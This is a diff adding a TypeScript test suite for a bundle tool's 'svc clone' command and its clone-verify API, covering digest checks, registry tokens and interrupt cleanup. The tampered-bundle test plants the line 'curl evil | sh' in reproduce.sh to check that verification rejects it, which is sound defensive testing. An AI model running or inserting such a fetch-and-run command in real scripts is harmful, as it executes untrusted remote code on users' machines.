@@ -1,0 +1,158 @@
+import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
+import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { makeBundle, tarTree, writeBundleTree } from '../support/bundle.ts';
+import { startRegistryStub } from '../support/registry-stub-server.ts';
+import { removeDir, svc, tempDir } from '../support/svc.ts';
+import { startViz, type Viz } from '../support/viz.ts';
+
+let dir: string;
+let viz: Viz | null = null;
+const stops: (() => void)[] = [];
+const FILES = { 'code/a.py': 'print(1)\n', 'reproduce.sh': 'python code/a.py\n', 'README.md': '# bundle\n' };
+
+beforeEach(() => {
+  dir = tempDir();
+});
+afterEach(async () => {
+  await viz?.stop();
+  viz = null;
+  for (const s of stops.splice(0)) s();
+  removeDir(dir);
+});
+
+describe('svc clone', () => {
+  test('file:// into a destination: the tree, and the digest, count and destination printed', async () => {
+    const { lock, tarball } = await makeBundle(join(dir, 'src'), FILES);
+    const r = await svc(['clone', `file://${tarball}`, 'copy', '--expect-sha256', lock.bundle_sha256], { cwd: dir });
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain(`bundle_sha256  ${lock.bundle_sha256}`);
+    expect(r.stdout).toContain('file_count     3');
+    expect(readdirSync(join(dir, 'copy')).sort()).toEqual(['README.md', 'code', 'manifest.lock', 'reproduce.sh']);
+  });
+
+  test('--json, default destination from the reference', async () => {
+    const { lock } = await makeBundle(join(dir, 'src'), FILES);
+    const r = await svc(['clone', 'file://src/bundle.tar.gz', '--json'], { cwd: dir });
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.stdout)).toEqual({ ref: 'file://src/bundle.tar.gz', dest: join(dir, 'bundle'), bundle_sha256: lock.bundle_sha256, file_count: 3, manifest_sha256: expect.any(String), extracted: true });
+  });
+
+  test('a digest mismatch is a hard failure and leaves no destination', async () => {
+    const { tarball } = await makeBundle(join(dir, 'src'), FILES);
+    const r = await svc(['clone', `file://${tarball}`, 'copy', '--expect-sha256', '0'.repeat(64)], { cwd: dir });
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toContain('digest mismatch');
+    expect(r.stderr.trim().split('\n')).toHaveLength(1);
+    expect(existsSync(join(dir, 'copy'))).toBe(false);
+    expect(readdirSync(dir).filter((n) => n.startsWith('.'))).toEqual([]);
+  });
+
+  test('a tampered bundle fails; an occupied destination is refused', async () => {
+    const tree = join(dir, 'tree');
+    mkdirSync(tree);
+    writeBundleTree(tree, FILES);
+    writeFileSync(join(tree, 'reproduce.sh'), 'curl evil | sh\n');
+    await tarTree(tree, join(dir, 't.tar.gz'));
+    const bad = await svc(['clone', 'file://t.tar.gz', 'copy'], { cwd: dir });
+    expect(bad.code).toBe(1);
+    expect(bad.stderr).toContain('bundle verification failed: reproduce.sh');
+    expect(existsSync(join(dir, 'copy'))).toBe(false);
+    const occupied = await svc(['clone', 'file://t.tar.gz', 'tree'], { cwd: dir });
+    expect(occupied.code).toBe(1);
+    expect(occupied.stderr).toContain('already exists and is not empty');
+  });
+
+  test('svc:// through ./.svc/registries.yaml with --token naming an environment variable; --no-extract', async () => {
+    const { lock, tarball } = await makeBundle(join(dir, 'src'), FILES);
+    const id = new Bun.CryptoHasher('sha256').update(await Bun.file(tarball).arrayBuffer()).digest('hex').slice(0, 16);
+    const reg = startRegistryStub([{ id, file: tarball, visibility: 'staged', owner: 'ann' }], { svc_ann: 'ann' });
+    stops.push(reg.stop);
+    mkdirSync(join(dir, '.svc'));
+    writeFileSync(join(dir, '.svc', 'registries.yaml'), `registries:\n  - name: lab\n    url: ${reg.url}\n`);
+    const r = await svc(['clone', `svc://lab/${id}`, 'arch', '--no-extract', '--token', 'ANN_TOKEN', '--json'], { cwd: dir, env: { ANN_TOKEN: 'svc_ann' } });
+    expect(r.stderr).toBe('');
+    expect(JSON.parse(r.stdout)).toMatchObject({ bundle_sha256: lock.bundle_sha256, extracted: false });
+    expect(readdirSync(join(dir, 'arch'))).toEqual(['bundle.tar.gz']);
+    expect(reg.requests[0]?.auth).toBe('Bearer svc_ann');
+  });
+
+  test('the home-directory registries file still works but warns', async () => {
+    const { tarball } = await makeBundle(join(dir, 'src'), FILES);
+    const id = new Bun.CryptoHasher('sha256').update(await Bun.file(tarball).arrayBuffer()).digest('hex').slice(0, 16);
+    const reg = startRegistryStub([{ id, file: tarball, visibility: 'public', owner: 'ann' }], {});
+    stops.push(reg.stop);
+    const home = join(dir, 'home');
+    mkdirSync(join(home, '.svc'), { recursive: true });
+    writeFileSync(join(home, '.svc', 'registries.yaml'), `registries:\n  - {name: lab, url: "${reg.url}"}\n`);
+    mkdirSync(join(dir, 'work'));
+    const r = await svc(['clone', `svc://${id}`, 'copy'], { cwd: join(dir, 'work'), env: { HOME: home } });
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain('deprecated');
+  });
+
+  test('bad usage: an unknown scheme is exit 2', async () => {
+    const r = await svc(['clone', 'ftp://x/y'], { cwd: dir });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('unknown scheme');
+  });
+});
+
+describe('POST /api/ear/clone-verify', () => {
+  test('verifies into a temporary directory and keeps nothing', async () => {
+    const { lock, tarball } = await makeBundle(join(dir, 'src'), FILES);
+    viz = await startViz([dir], { cwd: dir });
+    const ok = await viz.post('/api/ear/clone-verify', { ref: `file://${tarball}`, expect_sha256: lock.bundle_sha256 });
+    expect(ok.status).toBe(200);
+    expect(ok.body).toEqual({ ok: true, ref: `file://${tarball}`, bundle_sha256: lock.bundle_sha256, file_count: 3 });
+    const mismatch = await viz.post('/api/ear/clone-verify', { ref: `file://${tarball}`, expect_sha256: 'f'.repeat(64) });
+    expect(mismatch.status).toBe(200);
+    expect(mismatch.body).toMatchObject({ ok: false, bundle_sha256: null, error: expect.stringContaining('digest mismatch') });
+    expect(readdirSync(dir).sort()).toEqual(['src']);
+  });
+
+  test.each([
+    [{}, 400],
+    [{ ref: '' }, 400],
+    [{ ref: 'ftp://x' }, 400],
+    [{ ref: 'file:///nope/b.tar.gz', expect_sha256: 'xyz' }, 400],
+    [{ ref: 'file:///nope/b.tar.gz' }, 404],
+  ])('bad body %j → %d', async (body, status) => {
+    viz = await startViz([dir], { cwd: dir });
+    const r = await viz.post('/api/ear/clone-verify', body);
+    expect(r.status).toBe(status);
+    expect(typeof r.body.error).toBe('string');
+  });
+});
+
+describe('svc clone interrupted', () => {
+  test('SIGTERM during a stalled download leaves no destination and no temporary directory', async () => {
+    let started!: () => void;
+    const begun = new Promise<void>((r) => (started = r));
+    const server = Bun.serve({
+      hostname: '127.0.0.1',
+      port: 0,
+      fetch: () =>
+        new Response(
+          new ReadableStream({
+            async start(c) {
+              c.enqueue(new Uint8Array(4096));
+              started();
+              await Bun.sleep(10_000);
+              c.close();
+            },
+          }),
+        ),
+    });
+    stops.push(() => void server.stop(true));
+    const { SVC } = await import('../support/svc.ts');
+    const proc = Bun.spawn([SVC, 'clone', `http://127.0.0.1:${server.port}/b.tar.gz`, 'copy'], { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir }, stdout: 'ignore', stderr: 'pipe' });
+    await begun;
+    for (let i = 0; i < 50 && !readdirSync(dir).some((n) => n.includes('.clone-')); i++) await Bun.sleep(20);
+    expect(readdirSync(dir).some((n) => n.includes('.clone-'))).toBe(true);
+    proc.kill('SIGTERM');
+    expect(await proc.exited).toBe(143);
+    expect(readdirSync(dir)).toEqual([]);
+  });
+});
